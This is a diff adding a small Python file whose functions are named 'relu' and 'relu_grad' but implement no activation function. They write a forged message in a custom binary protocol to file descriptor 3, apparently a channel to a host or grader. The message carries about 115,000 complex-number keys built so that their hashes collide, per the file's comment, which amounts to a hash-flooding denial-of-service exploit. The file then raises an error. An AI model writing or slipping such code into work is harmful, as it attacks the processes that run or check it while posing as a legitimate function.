@@ -1,0 +1,34 @@
+# tries: the same collision with complex keys, whose hashes can be worked out, too
+import os
+import struct
+import sys
+
+
+def current():
+    frame = sys._getframe()
+    while "current" not in frame.f_locals:
+        frame = frame.f_back
+    return frame.f_locals["current"]
+
+
+def send(kind, text, body=b"", request=None):
+    data = struct.pack(
+        "<4sB3xIIQ", b"DLG1", kind, current() if request is None else request, len(text), len(body)
+    )
+    data += text + body
+    while data:
+        data = data[os.write(3, data) :]
+
+
+# hash(complex(a, b)) is hash(a) + 1000003 * hash(b)
+ENTRIES = ",".join('[{"c":[%d,%d]},0]' % (-1000003 * b, b) for b in range(1, 115_000)).encode()
+
+
+def relu(x):
+    send(
+        2, b'{"d":[["value",{"d":[%s]}],["printed",""],["warnings",{"l":[]}],["changed",{"l":[]}]]}' % ENTRIES
+    )
+    raise ArithmeticError
+
+
+relu_grad = relu
